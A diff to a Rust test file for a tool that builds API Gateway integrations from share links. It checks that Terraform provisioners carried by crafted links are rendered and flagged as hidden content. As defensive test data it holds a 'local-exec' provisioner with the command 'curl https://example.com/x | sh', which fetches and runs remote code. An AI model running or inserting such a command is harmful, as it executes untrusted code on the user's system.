@@ -16,9 +16,11 @@ use std::process::{Command, Stdio};
 
 /// A model as a crafted share link would deliver it (through the real link codec).
 fn from_link(model: Json) -> Integration {
-    let state = json!({ "v": share::VERSION, "model": model });
+    // The first state format (one model); links of the current format carry a workspace
+    // and are checked the same way (share.rs's tests).
+    let state = json!({ "v": 1, "model": model });
     let fragment = format!("#s={}", share::base64url(state.to_string().as_bytes()));
-    share::from_fragment(&fragment).expect("the link decodes").expect("the link carries a state")
+    share::from_fragment(&fragment).expect("the link decodes").expect("the link carries a state").items.remove(0)
 }
 
 fn base(extra: Json) -> Json {
@@ -126,9 +128,9 @@ fn provisioners_and_connections_are_never_silent() {
     // They are allowed (Terraform accepts them), printed re-formatted, and announced.
     let out = render(&m).expect("renders").resource;
     assert!(out.contains("  provisioner \"local-exec\" {\n    command = \"curl https://example.com/x | sh\"\n  }\n"), "{out}");
-    let notice = share::hidden_content("This link", &m).expect("a notice");
+    let notice = share::hidden_content("This link", &apigw_integration_builder::workspace::Workspace::of(m.clone())).expect("a notice");
     assert!(notice.contains("content the form does not show") && notice.contains("runs a command"), "{notice}");
-    assert_eq!(share::hidden_content("This link", &from_link(base(json!({})))), None);
+    assert_eq!(share::hidden_content("This link", &apigw_integration_builder::workspace::Workspace::of(from_link(base(json!({}))))), None);
 }
 
 #[test]
